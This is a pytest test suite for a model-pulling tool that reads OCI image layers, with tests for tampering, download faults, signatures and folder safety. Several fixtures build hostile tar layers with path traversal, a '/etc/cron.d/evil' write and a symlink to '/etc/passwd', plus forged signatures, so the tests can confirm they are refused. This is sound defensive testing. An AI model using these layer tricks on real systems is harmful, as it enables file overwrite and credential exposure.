"""`lepton-ci pull` and `lepton_ci.pull()`: a version's model files from its image, against a
real CNCF registry, from real git repositories whose versions `register`, `promote` and
`build` made; no container engine. Faults come from the fault proxy in front of the registry;
tampered layers and signatures are pushed and written as an attacker would."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import uuid
from pathlib import Path

import pytest

from lepton_ci.core.git import Git
from lepton_ci.core.hashing import hash_bytes
from lepton_ci.core.oci_client import LAYER_OCI, LAYER_TAR, MANIFEST_OCI, OCIClient
from lepton_ci.core.record import parse
from lepton_ci.trust import store
from tests.conftest import Cli, commit_all, git
from tests.support.fault_proxy import FaultProxy, Rule
from tests.support.services import Registry
from tests.support.trust import key_pair, push_tiny_base, trust_repo

pytestmark = pytest.mark.e2e

TRAIN = """\
import json, random
from pathlib import Path

import yaml

p = yaml.safe_load(Path("params.yaml").read_text())
rnd = random.Random(p["seed"])
Path("weights.bin").write_bytes(rnd.randbytes(p["kib"] * 1024))
Path("tokenizer").mkdir(exist_ok=True)
Path("tokenizer/vocab.txt").write_text("".join(f"tok{i}\\n" for i in range(p["seed"] * 100)))
Path("metrics.json").write_text(json.dumps({"loss": 0.1}))
"""


@pytest.fixture(scope="module")
def registry(tmp_path_factory):
    reg = Registry(tmp_path_factory.mktemp("pull-registry"))
    reg.base = push_tiny_base(reg.host, "base/tiny")
    yield reg
    reg.stop()


def weights_repo(
    repo: Path, host: str, base: str, *, kib: int = 256, compression: str = "auto"
) -> str:
    """A model of random weights (a plain tar layer) and a vocabulary in a sub-folder, its
    image on `host`. Returns the image name."""
    repo.mkdir(parents=True)
    name = f"{host}/t{uuid.uuid4().hex[:10]}/weights"
    (repo / "train.py").write_text(TRAIN)
    (repo / "params.yaml").write_text(f"seed: 1\nkib: {kib}\n")
    (repo / "lepton.yaml").write_text(
        "models:\n  weights:\n    train: python3 train.py\n    code: [train.py]\n"
        "    params: [params.yaml]\n    outputs: [weights.bin, tokenizer/vocab.txt]\n"
        "    metrics: [metrics.json]\n    gates: {loss: {direction: lower}}\n"
        f"    image: {{name: {name}, base: {base}, compression: {compression}}}\n"
        "stages:\n  staging: {}\n  prod: {}\n"
    )
    (repo / ".gitignore").write_text("weights.bin\ntokenizer/\nmetrics.json\n.lepton/\n")
    git(repo, "init", "-q")
    commit_all(repo, "feat: weights")
    return name


def release(cli: Cli, repo: Path, seed: int | None = None) -> dict:
    """Run, register and build a version (a new seed: new weights); the build's answer."""
    if seed is not None:
        p = repo / "params.yaml"
        p.write_text(p.read_text().replace("seed: 1", f"seed: {seed}"))
        commit_all(repo, f"fix: seed {seed}")
    for step in ("run", "register"):
        code, _, err = cli(step)
        assert code == 0, err
    code, out, err = cli("build", "--json")
    assert code == 0, err
    return json.loads(out)


def tag_record(repo: Path, tag: str):
    from lepton_ci.versions.registry import Registry as Versions

    return Versions(Git(repo)).record(tag)


def assert_pulled(out: Path, repo: Path, tag: str) -> None:
    """`out` holds the version's files, each with the record's hash, and the record."""
    rec = tag_record(repo, tag)
    assert parse((out / "record.json").read_text(), "x").digest() == rec.digest()
    for name, entry in rec.outputs.items():
        assert hash_bytes((out / name).read_bytes()) == entry.hash, name
    assert not [p.name for p in out.iterdir() if p.name.startswith(".lepton-pull-")]


@pytest.fixture
def weights(tmp_path, registry, capsys):
    repo = tmp_path / "weights"
    image = weights_repo(repo, registry.host, registry.base)
    cli = Cli(repo, capsys)
    cli.image = image
    cli.first = release(cli, repo)  # v0.1.0
    return repo, cli


def test_pull_by_version_latest_and_stage(weights, tmp_path):
    repo, cli = weights
    release(cli, repo, seed=2)  # v0.1.1, the latest
    code, _, err = cli("promote", "weights", "v0.1.0", "prod")
    assert code == 0, err

    code, out, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "a"), "--json")
    assert code == 0, err
    res = json.loads(out)
    assert res["version"] == "v0.1.0" and res["image"] == f"{cli.image}@{cli.first['digest']}"
    assert res["signed_by"] is None and not res["reused"]
    assert res["downloaded_bytes"] == cli.first["layers"]["model"]["size"]
    assert_pulled(tmp_path / "a", repo, "weights@v0.1.0")

    code, out, err = cli("pull", "weights@latest", "--out", str(tmp_path / "b"))
    assert code == 0, err
    assert out.startswith("weights v0.1.1: pulled from ")
    # a model under a megabyte says its size in kB: "0.0 MB" read as nothing pulled
    assert re.search(r"\(\d+\.\d kB in \d+\.\d s\); 2 file\(s\), \d+\.\d kB, each", out), out
    assert_pulled(tmp_path / "b", repo, "weights@v0.1.1")
    assert (tmp_path / "a" / "weights.bin").read_bytes() != (
        tmp_path / "b" / "weights.bin"
    ).read_bytes()

    code, out, err = cli("pull", "weights#prod", "--out", str(tmp_path / "c"))
    assert code == 0, err
    assert out.startswith("weights v0.1.0 (prod): pulled from ")
    assert_pulled(tmp_path / "c", repo, "weights@v0.1.0")

    # --image: by digest (a mirror, a pinned copy); the image of another version is refused
    by_digest = f"{cli.image}@{cli.first['digest']}"
    code, _, err = cli("pull", "weights@v0.1.0", "--image", by_digest, "--out", str(tmp_path / "d"))
    assert code == 0, err
    assert_pulled(tmp_path / "d", repo, "weights@v0.1.0")
    code, _, err = cli("pull", "weights@v0.1.0", "--image", f"{cli.image}:0.1.1", "--out", "e")
    assert code == 1
    assert f"{cli.image}:0.1.1 holds an image of weights v0.1.1 with other artifacts" in err


def test_the_python_call_for_batch_jobs_and_a_second_pull_downloads_nothing(
    weights, tmp_path, monkeypatch
):
    import lepton_ci

    repo, cli = weights
    assert cli("promote", "weights", "v0.1.0", "staging")[0] == 0
    monkeypatch.chdir(repo)  # a batch job in a clone: lepton.yaml is found from here
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    first = lepton_ci.pull("weights#staging")
    assert first.out == tmp_path / "cache" / "lepton-ci" / "models" / "weights" / "v0.1.0"
    assert first.stages == ["staging"] and not first.reused and first.downloaded_bytes > 0
    assert first.files["tokenizer/vocab.txt"].read_text().startswith("tok0\n")
    assert_pulled(first.out, repo, "weights@v0.1.0")
    # the same call again (the package's `pull` is still the function once imported)
    again = lepton_ci.pull("weights#staging")
    assert again.reused and again.downloaded_bytes == 0
    # a file changed in the folder is noticed: the version is pulled again, whole
    first.files["weights.bin"].write_bytes(b"edited")
    third = lepton_ci.pull(
        "weights@v0.1.0", tmp_path / "cache" / "lepton-ci" / "models" / "weights" / "v0.1.0"
    )
    assert not third.reused
    assert_pulled(first.out, repo, "weights@v0.1.0")


@pytest.mark.parametrize("compression", ["gzip", "none"])
def test_both_layer_kinds_build_writes(tmp_path, registry, capsys, compression):
    repo = tmp_path / "w"
    weights_repo(repo, registry.host, registry.base, compression=compression)
    cli = Cli(repo, capsys)
    built = release(cli, repo)
    media = {"gzip": LAYER_OCI, "none": LAYER_TAR}[compression]
    assert built["layers"]["model"]["media_type"] == media
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "out"))
    assert code == 0, err
    assert_pulled(tmp_path / "out", repo, "weights@v0.1.0")


def test_unknown_versions_and_stages_and_missing_images_are_clear_errors(weights, tmp_path):
    repo, cli = weights
    out = tmp_path / "never"
    code, _, err = cli("pull", "weights@v9.9.9", "--out", str(out))
    assert code == 1 and "weights@v9.9.9 is not registered (newest: v0.1.0)" in err
    code, _, err = cli("pull", "weights#prod", "--out", str(out))
    assert code == 1 and "no version of weights is in stage `prod`" in err
    code, _, err = cli("pull", "weights@1.0", "--out", str(out))
    assert code == 1 and "`weights@1.0` is not a version reference" in err
    code, _, err = cli("pull", "other@latest", "--out", str(out))
    assert code == 1 and "other has no registered version" in err
    # registered, never built
    p = repo / "params.yaml"
    p.write_text(p.read_text().replace("seed: 1", "seed: 3"))
    commit_all(repo, "fix: seed 3")
    assert cli("run")[0] == 0 and cli("register")[0] == 0
    code, _, err = cli("pull", "weights@v0.1.1", "--out", str(out))
    assert code == 1
    assert f"pull of weights@v0.1.1: image {cli.image}:0.1.1 not found in the registry" in err
    assert "lepton-ci build --version v0.1.1" in err
    assert not out.exists()


def _model_layer_index(client: OCIClient, repo: str, tag: str) -> tuple[dict, int]:
    from lepton_ci.fetch.operation import _model_layer

    manifest, _ = client.image_manifest(repo, tag)
    config = json.loads(client.get_blob(repo, manifest["config"]["digest"]))
    layer = _model_layer(manifest, config, tag)
    return manifest, manifest["layers"].index(layer)


def push_layer_over(image: str, tag: str, layer: bytes, media: str = LAYER_TAR) -> None:
    """Replace the model layer of the image under `tag` with `layer`: the same config and
    labels, a manifest pushed over the tag, as whoever can push to the registry can."""
    host, _, repo = image.partition("/")
    client = OCIClient(host)
    manifest, i = _model_layer_index(client, repo, tag)
    digest = "sha256:" + hashlib.sha256(layer).hexdigest()
    client.upload_blob(repo, digest, layer)
    manifest["layers"][i] = {"mediaType": media, "digest": digest, "size": len(layer)}
    client.put_manifest(repo, tag, json.dumps(manifest).encode(), MANIFEST_OCI)


def tar_of(*members: tuple[str, bytes | str, bytes]) -> bytes:
    """A tar of (name, kind, data-or-link-target) members."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind, data in members:
            info = tarfile.TarInfo(name)
            info.type = kind  # type: ignore[assignment]
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info.linkname = data.decode()
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def test_a_tampered_layer_pushed_under_the_tag_is_refused_and_nothing_is_left(weights, tmp_path):
    repo, cli = weights
    good = tmp_path / "good"
    assert cli("pull", "weights@v0.1.0", "--out", str(good))[0] == 0
    vocab = (good / "tokenizer" / "vocab.txt").read_bytes()
    evil = os.urandom(256 * 1024)
    push_layer_over(
        cli.image,
        "0.1.0",
        tar_of(
            ("app/tokenizer/vocab.txt", tarfile.REGTYPE, vocab),
            ("app/weights.bin", tarfile.REGTYPE, evil),
        ),
    )
    rec = tag_record(repo, "weights@v0.1.0")
    out = tmp_path / "fresh"
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(out))
    assert code == 1
    assert f"weights.bin: the model layer's file has {hash_bytes(evil)}" in err
    assert f"the version's record says {rec.outputs['weights.bin'].hash}" in err
    assert not out.exists()  # not even the folder: nothing half-written
    # into a folder that holds an earlier pull: it is left exactly as it was
    before = {p: p.read_bytes() for p in good.rglob("*") if p.is_file()}
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(good))
    assert code == 0  # already there, checked: nothing downloaded, nothing changed
    (good / "record.json").unlink()  # no longer known to hold the version: pulled again
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(good))
    assert code == 1 and "refused, nothing was written" in err
    after = {p: p.read_bytes() for p in good.rglob("*") if p.is_file()}
    assert after == {p: b for p, b in before.items() if p.name != "record.json"}
    assert sorted(p.name for p in good.iterdir()) == ["tokenizer", "weights.bin"]


@pytest.mark.parametrize(
    ("member", "refusal"),
    [
        (("app/../../escape.txt", tarfile.REGTYPE, b"x"), "a path outside the folder"),
        (("/etc/cron.d/evil", tarfile.REGTYPE, b"x"), "a path outside the folder"),
        (("app/link", tarfile.SYMTYPE, b"../../../etc/passwd"), "a link to '../../../etc/passwd'"),
        (("app/weights.bin", tarfile.SYMTYPE, b"tokenizer/vocab.txt"), "is a link in the model"),
        (("app/fifo", tarfile.FIFOTYPE, b""), "a device or FIFO"),
    ],
)
def test_a_layer_that_would_write_outside_the_folder_is_refused(weights, tmp_path, member, refusal):
    _, cli = weights
    push_layer_over(cli.image, "0.1.0", tar_of(member, ("app/weights.bin", tarfile.REGTYPE, b"")))
    out = tmp_path / "out"
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(out))
    assert code == 1 and refusal in err, err
    assert not out.exists() and not (tmp_path / "escape.txt").exists()


def test_an_image_without_a_model_layer_or_of_another_version_is_refused(weights, tmp_path):
    _, cli = weights
    host, _, name = cli.image.partition("/")
    client = OCIClient(host)
    manifest, _ = client.image_manifest(name, "0.1.0")
    config = json.loads(client.get_blob(name, manifest["config"]["digest"]))
    # the same image as a Dockerfile build leaves it: no history entry per layer
    blind = {**config, "history": []}
    body = json.dumps(blind).encode()
    digest = "sha256:" + hashlib.sha256(body).hexdigest()
    client.upload_blob(name, digest, body)
    manifest["config"] = {**manifest["config"], "digest": digest, "size": len(body)}
    client.put_manifest(name, "0.1.0", json.dumps(manifest).encode(), MANIFEST_OCI)
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "o"))
    assert code == 1 and "has no model layer" in err and "`layers` builder" in err
    # an image of other weights under the version's tag
    other = {**config}
    other["config"] = {**config["config"], "Labels": {**config["config"]["Labels"]}}
    other["config"]["Labels"]["dev.lepton-ci.outputs-digest"] = "blake3:" + "0" * 64
    body = json.dumps(other).encode()
    digest = "sha256:" + hashlib.sha256(body).hexdigest()
    client.upload_blob(name, digest, body)
    manifest["config"] = {**manifest["config"], "digest": digest, "size": len(body)}
    client.put_manifest(name, "0.1.0", json.dumps(manifest).encode(), MANIFEST_OCI)
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "o"))
    assert code == 1 and "with other artifacts than weights@v0.1.0's record" in err
    assert not (tmp_path / "o").exists()


def test_a_download_broken_mid_blob_resumes_with_a_range_request(tmp_path, registry, capsys):
    repo = tmp_path / "w"
    weights_repo(repo, registry.host, registry.base, kib=6 * 1024)
    cli = Cli(repo, capsys)
    built = release(cli, repo)
    layer = built["layers"]["model"]
    proxy = FaultProxy(registry.host)
    try:
        at = 4 * 1024 * 1024 + 12345
        proxy.rules.append(Rule("GET", f"/blobs/{layer['digest']}", mode="cut", at=at))
        cfg = repo / "lepton.yaml"
        cfg.write_text(cfg.read_text().replace(registry.host, proxy.host, 1))
        commit_all(repo, "build: through the proxy")
        code, out, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "out"), "--json")
        assert code == 0, err
        blob_gets = [
            r
            for (m, p, _), r in zip(
                [e for e in proxy.log if e[0] == "GET"], proxy.read_ranges, strict=True
            )
            if layer["digest"] in p
        ]
        assert blob_gets[0] == ""  # the first asks for all of it
        (resumed,) = blob_gets[1:]
        start = int(resumed.removeprefix("bytes=").rstrip("-"))
        assert 0 < start <= at  # from where it broke, not from the start
        # every byte of the blob came through once, at most the last chunk twice
        assert json.loads(out)["downloaded_bytes"] == layer["size"]
        assert_pulled(tmp_path / "out", repo, "weights@v0.1.0")
    finally:
        proxy.close()


def test_a_download_that_keeps_breaking_gives_up_and_leaves_nothing(tmp_path, registry, capsys):
    from lepton_ci.core.errors import LeptonError
    from lepton_ci.core.oci_client import client_factory

    repo = tmp_path / "w"
    weights_repo(repo, registry.host, registry.base, kib=2 * 1024)
    cli = Cli(repo, capsys)
    built = release(cli, repo)
    proxy = FaultProxy(registry.host)
    try:
        proxy.rules.append(
            Rule(
                "GET",
                f"/blobs/{built['layers']['model']['digest']}",
                mode="cut",
                at=1000,
                times=100,
            )
        )

        def clients(host: str) -> OCIClient:
            assert host == registry.host
            return OCIClient(proxy.host, sleep=lambda s: None, max_retries=2)

        from lepton_ci.fetch.operation import pull

        with pytest.raises(LeptonError, match="broke off at byte") as e:
            pull(
                "weights@v0.1.0",
                tmp_path / "out",
                config=str(repo / "lepton.yaml"),
                clients=clients,
            )
        assert "3 times in a row" in str(e.value)
        assert not (tmp_path / "out").exists()
        assert client_factory  # the default factory is what the CLI hands in
    finally:
        proxy.close()


def test_a_big_model_is_pulled_with_flat_memory(tmp_path, registry, capsys):
    """A 160 MiB model pulls under a fixed peak RSS: nothing is held whole."""
    repo = tmp_path / "big"
    weights_repo(repo, registry.host, registry.base, kib=160 * 1024)
    cli = Cli(repo, capsys)
    release(cli, repo)
    env = {k: v for k, v in os.environ.items() if k != "GITHUB_ACTIONS"}
    code = (
        "import resource, subprocess, sys\n"
        "p = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "print(p.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
        "print(p.stdout or p.stderr)"
    )
    lepton = [sys.executable, "-m", "lepton_ci", "-C", str(repo)]
    out = subprocess.run(
        [
            sys.executable,
            "-c",
            code,
            *lepton,
            "pull",
            "weights@v0.1.0",
            "--out",
            str(tmp_path / "out"),
            "--json",
        ],
        capture_output=True,
        text=True,
        env=env,
        check=True,
    ).stdout
    status, rss_kb = out.split("\n", 1)[0].split()
    assert status == "0", out
    assert json.loads(out.split("\n", 1)[1])["downloaded_bytes"] > 160 << 20
    assert int(rss_kb) / 1024 < 120, f"peak RSS {int(rss_kb) / 1024:.0f} MB"
    assert_pulled(tmp_path / "out", repo, "weights@v0.1.0")


# -- signed versions --------------------------------------------------------------------------


@pytest.fixture
def signed(tmp_path, registry, capsys, monkeypatch):
    repo = tmp_path / "signed"
    weights_repo(repo, registry.host, registry.base)
    priv, pub = key_pair(tmp_path / "keys", "release")
    trust_repo(repo, pub)
    monkeypatch.setenv("LEPTON_SIGNING_KEY", str(priv))
    cli = Cli(repo, capsys)
    release(cli, repo)
    monkeypatch.delenv("LEPTON_SIGNING_KEY")
    cli.priv = priv
    return repo, cli


TAG = "weights@v0.1.0"


def _bundle(repo: Path) -> dict:
    return json.loads(git(repo, "cat-file", "blob", f"{store.ref_of(TAG)}:{store.STATEMENT}"))


def _replace_bundle(repo: Path, bundle: dict | str) -> None:
    text = bundle if isinstance(bundle, str) else json.dumps(bundle)
    git(repo, "update-ref", "-d", store.ref_of(TAG))
    store.write(Git(repo), TAG, {store.STATEMENT: text.encode()})


def test_a_signed_version_is_verified_and_its_files_match_the_signed_sha256(signed, tmp_path):
    repo, cli = signed
    code, out, err = cli("pull", TAG, "--out", str(tmp_path / "out"), "--json")
    assert code == 0, err
    assert json.loads(out)["signed_by"] == "key keys/release.pub"
    assert_pulled(tmp_path / "out", repo, TAG)


def test_a_tampered_signature_is_refused_and_nothing_is_written(signed, tmp_path):
    repo, cli = signed
    bundle = _bundle(repo)
    st = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    st["predicate"]["runDetails"]["builder"]["id"] = "https://example.com/evil"
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(st).encode()).decode()
    _replace_bundle(repo, bundle)
    code, _, err = cli("pull", TAG, "--out", str(tmp_path / "out"))
    assert code == 1
    assert f"pull of {TAG} refused: {TAG}: signature: the signature does not verify" in err
    assert not (tmp_path / "out").exists()


def test_a_signed_statement_whose_sha256_is_not_the_files_is_refused(signed, tmp_path):
    """Signed by the release key, the record's hashes right, the sha256 of the weights not
    those of the image's file (an insider signing other weights): refused by name."""
    from lepton_ci.trust.signer import KeySigner

    repo, cli = signed
    st = json.loads(base64.b64decode(_bundle(repo)["dsseEnvelope"]["payload"]))
    subject = next(s for s in st["subject"] if s["name"] == "weights.bin")
    subject["digest"]["sha256"] = "ab" * 32
    _replace_bundle(repo, KeySigner(cli.priv, "test").sign(json.dumps(st).encode()))
    # a clone at a later commit, as a batch job's is (at the version's own commit, verify
    # compares the statement with the files on disk first, and refuses there)
    (repo / "README.md").write_text("later\n")
    commit_all(repo, "docs: later")
    code, _, err = cli("pull", TAG, "--out", str(tmp_path / "out"))
    assert code == 1
    assert f"{TAG}: weights.bin: the model layer's file has sha256 " in err
    assert f"the signed statement says {'ab' * 32}; refused" in err
    assert not (tmp_path / "out").exists()


def test_an_unsigned_version_under_trust_require_is_refused(weights, tmp_path):
    repo, cli = weights
    _, pub = key_pair(tmp_path / "keys", "release")
    trust_repo(repo, pub, require=True)
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "out"))
    assert code == 1
    assert "pull of weights@v0.1.0 refused by `trust.require: true`" in err
    assert "the version is not signed" in err
    assert not (tmp_path / "out").exists()


# -- the tar reader, on layers made here ------------------------------------------------------


def _unpack(tmp_path: Path, layer: bytes, wanted: dict[str, bytes], media: str = LAYER_TAR):
    from lepton_ci.fetch.unpack import Unpacker, layer_bytes

    stage = tmp_path / "stage"
    stage.mkdir(exist_ok=True)
    chunks = (layer[i : i + 1000] for i in range(0, len(layer), 1000))  # headers split too
    hashes = {name: hash_bytes(data) for name, data in wanted.items()}
    unpacker = Unpacker(hashes, "/app", stage, sha256=True, where="test")
    return unpacker.run(layer_bytes(chunks, media, "test"))


@pytest.mark.unit
def test_long_names_in_pax_and_gnu_headers_and_multi_member_gzip(tmp_path):
    import gzip

    deep = "app/" + "/".join(["d" * 60] * 5) + "/weights.bin"
    rel = deep.removeprefix("app/")
    data = os.urandom(3000)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo(deep)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    for layer, media in [
        (tar_of((deep, tarfile.REGTYPE, data)), LAYER_TAR),  # pax
        (raw.getvalue(), LAYER_TAR),  # GNU ././@LongLink
        # two gzip members, the tar split between them
        (gzip.compress(raw.getvalue()[:700]) + gzip.compress(raw.getvalue()[700:]), LAYER_OCI),
    ]:
        landed = _unpack(tmp_path, layer, {rel: data}, media)
        assert landed[rel].path.read_bytes() == data
        assert landed[rel].sha256 == hashlib.sha256(data).hexdigest()


def _pax_sized(size: bytes) -> bytes:
    """A tar whose file's pax header gives `size` as its size."""
    raw = bytearray(tar_of(("app/w.bin", tarfile.REGTYPE, b"w" * 600)))
    record = b"size=" + size + b"\n"
    record = str(len(record) + 3).encode() + b" " + record
    pax = tarfile.TarInfo("pax")
    pax.type = tarfile.XHDTYPE
    pax.size = len(record)
    block = pax.tobuf(tarfile.USTAR_FORMAT) + record + bytes(-len(record) % 512)
    return block + bytes(raw)


@pytest.mark.unit
def test_a_broken_layer_is_refused_by_what_is_wrong(tmp_path):
    from lepton_ci.core.errors import PullError

    good = tar_of(("app/w.bin", tarfile.REGTYPE, b"w" * 5000))
    cases = [
        (good[:1500], {"w.bin": b"w" * 5000}, "ends in the middle of a file"),
        (good, {"w.bin": b"w" * 5000, "v.txt": b"v"}, "the model layer has no app/v.txt"),
        (
            tar_of(("app/w.bin", tarfile.REGTYPE, b"a"), ("app/w.bin", tarfile.REGTYPE, b"a")),
            {"w.bin": b"a"},
            "app/w.bin is twice in the model layer",
        ),
        (b"x" * 1024, {"w.bin": b""}, "not a valid tar"),
        (_pax_sized(b"-5"), {"w.bin": b""}, "names a size of '-5'"),
        (_pax_sized(b"1e3"), {"w.bin": b""}, "names a size of '1e3'"),
        (
            tar_of(("app/vol", b"V", b"")),  # a GNU volume label: not a device
            {"w.bin": b""},
            "holds 'app/vol', an entry of tar type V, which pull does not read",
        ),
    ]
    for layer, wanted, refusal in cases:
        with pytest.raises(PullError, match=refusal):
            _unpack(tmp_path, layer, wanted)
    with pytest.raises(PullError, match="not valid gzip"):
        _unpack(tmp_path, b"\x1f\x8bnot gzip at all", {"w.bin": b""}, LAYER_OCI)
    with pytest.raises(PullError, match="gzip stream ends early"):
        import gzip

        _unpack(tmp_path, gzip.compress(good)[:-20], {"w.bin": b"w" * 5000}, LAYER_OCI)
    with pytest.raises(PullError, match="zstd"):
        _unpack(tmp_path, good, {}, "application/vnd.oci.image.layer.v1.tar+zstd")


@pytest.mark.unit
def test_import_lepton_ci_stays_light_and_pull_is_a_function():
    code = (
        "import sys, lepton_ci\n"
        "heavy = ('pydantic', 'yaml', 'requests', 'blake3', 'lepton_ci.fetch')\n"
        "print(callable(lepton_ci.pull), [m for m in heavy if m in sys.modules])"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "True []"


def test_a_signed_version_without_a_trust_policy_is_pulled_with_a_warning(signed, tmp_path):
    repo, cli = signed
    cfg = repo / "lepton.yaml"
    cfg.write_text(cfg.read_text().split("trust:")[0])
    commit_all(repo, "chore: no trust policy")
    code, out, err = cli("pull", TAG, "--out", str(tmp_path / "out"))
    assert code == 0, err
    assert f"{TAG} is signed, but `trust:` in lepton.yaml lists no key" in out + err
    assert "(no signature checked)" in out
    assert_pulled(tmp_path / "out", repo, TAG)


@pytest.mark.parametrize(
    ("signame", "code", "said"),
    [("SIGTERM", 143, "stopped by SIGTERM"), ("SIGINT", 130, "stopped by SIGINT (Ctrl-C)")],
)
def test_sigterm_during_a_download_leaves_nothing(tmp_path, registry, capsys, signame, code, said):
    """Stopped half-way (as a CI job is cancelled, or Ctrl-C at a terminal): the staging
    folder goes, and the folder the pull made with it; exit 143 or 130, as a shell reports."""
    import signal
    import time

    repo = tmp_path / "w"
    weights_repo(repo, registry.host, registry.base, kib=4 * 1024)
    cli = Cli(repo, capsys)
    built = release(cli, repo)
    proxy = FaultProxy(registry.host)
    try:
        digest = built["layers"]["model"]["digest"]
        proxy.rules.append(Rule("GET", f"/blobs/{digest}", mode="slow", delay=0.05))
        cfg = repo / "lepton.yaml"
        cfg.write_text(cfg.read_text().replace(registry.host, proxy.host, 1))
        commit_all(repo, "build: through the proxy")
        out = tmp_path / "out"
        env = {k: v for k, v in os.environ.items() if k != "GITHUB_ACTIONS"}
        cmd = [sys.executable, "-m", "lepton_ci", "-C", str(repo), "pull", TAG, "--out", str(out)]
        proc = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        while not list(out.glob(".lepton-pull-*/0")) and time.monotonic() < deadline:
            time.sleep(0.05)  # until the first file is being written
        assert proc.poll() is None, proc.communicate()
        proc.send_signal(getattr(signal, signame))
        _, err = proc.communicate(timeout=60)
        assert proc.returncode == code, err
        assert said in err.decode()
        assert not out.exists()
    finally:
        proxy.close()


def test_pull_from_a_registry_with_the_token_flow_and_a_refused_login(
    tmp_path, registry, capsys, monkeypatch
):
    """The image in a registry that wants a bearer token (as GHCR and Docker Hub do), the
    credentials from LEPTON_REGISTRY_USERNAME/PASSWORD; a wrong password says so (and not
    that the image is missing)."""
    from tests.support.token_server import TokenServer

    tokens = TokenServer(tmp_path / "tokens", {"alice": "s3cret"})
    private = Registry(tmp_path / "private", auth=tokens.registry_auth())
    try:
        monkeypatch.setenv("LEPTON_REGISTRY_USERNAME", "alice")
        monkeypatch.setenv("LEPTON_REGISTRY_PASSWORD", "s3cret")
        repo = tmp_path / "w"
        weights_repo(repo, private.host, registry.base)
        cli = Cli(repo, capsys)
        release(cli, repo)
        code, _, err = cli("pull", TAG, "--out", str(tmp_path / "out"))
        assert code == 0, err
        assert_pulled(tmp_path / "out", repo, TAG)
        assert any("pull" in " ".join(s) for s in tokens.scopes())
        monkeypatch.setenv("LEPTON_REGISTRY_PASSWORD", "wrong")
        code, _, err = cli("pull", TAG, "--out", str(tmp_path / "again"))
        assert code == 1 and "refused user 'alice'" in err and "build" not in err
        assert not (tmp_path / "again").exists()
    finally:
        private.stop()
        tokens.close()


@pytest.mark.unit
def test_an_artifact_of_another_size_than_the_record_is_refused_before_it_is_written(tmp_path):
    """A layer that names a model file of 1 TiB (a gzip bomb of zeros is a few GB) must not
    fill the disk before its hash can be refused: its size is judged from its header."""
    from lepton_ci.core.errors import PullError
    from lepton_ci.fetch.unpack import Unpacker

    header = tarfile.TarInfo("app/w.bin")
    header.size = 1 << 40
    read = []

    def layer():
        yield header.tobuf(tarfile.GNU_FORMAT)  # base-256: sizes of 8 GiB and more
        for _ in range(64):  # 64 MiB of the terabyte, then the test stops reading
            read.append(1)
            yield bytes(1 << 20)
        raise AssertionError("the unpacker read on into a file of the wrong size")

    stage = tmp_path / "stage"
    stage.mkdir()
    unpacker = Unpacker(
        {"w.bin": hash_bytes(b"w")}, "/app", stage, sha256=False, where="t", sizes={"w.bin": 1}
    )
    with pytest.raises(PullError, match=r"w.bin: the model layer's file is 1099511627776 bytes, "):
        unpacker.run(layer())
    assert not read and not list(stage.iterdir())


def test_files_of_the_users_in_the_folder_are_not_replaced(weights, tmp_path):
    """`--out .` in the clone, or a folder of the user's: a file at an artifact's path that
    no earlier pull put there is refused before anything is downloaded; an earlier pull's
    files (of another version too) are replaced, and other files are left alone."""
    repo, cli = weights
    out = tmp_path / "mine"
    (out / "tokenizer").mkdir(parents=True)
    (out / "weights.bin").write_bytes(b"the user's own weights")
    (out / "notes.txt").write_text("keep me")
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(out))
    assert code == 1
    assert f"{out} holds weights.bin, which no earlier pull put there" in err
    assert (out / "weights.bin").read_bytes() == b"the user's own weights"
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt", "tokenizer", "weights.bin"]
    (out / "weights.bin").unlink()
    (out / "record.json").write_text("{}")  # a record.json of the user's, not a version's
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(out))
    assert code == 1 and f"{out} holds record.json, which no earlier pull" in err
    (out / "record.json").unlink()
    assert cli("pull", "weights@v0.1.0", "--out", str(out))[0] == 0
    release(cli, repo, seed=2)  # v0.1.1 into the folder v0.1.0 was pulled into: replaced
    code, _, err = cli("pull", "weights@v0.1.1", "--out", str(out))
    assert code == 0, err
    assert_pulled(out, repo, "weights@v0.1.1")
    assert (out / "notes.txt").read_text() == "keep me"


def test_out_that_is_a_file_or_a_dangling_link_is_said_as_such(weights, tmp_path):
    _, cli = weights
    (tmp_path / "afile").write_text("x")
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "afile"))
    assert code == 1 and f"{tmp_path / 'afile'} is not a folder; nothing was pulled" in err
    (tmp_path / "dangling").symlink_to(tmp_path / "gone")
    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "dangling"))
    assert code == 1
    assert f"is a link to {tmp_path / 'gone'}, which does not exist; nothing was pulled" in err
    assert not (tmp_path / "gone").exists()
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")  # a link to a folder is that folder
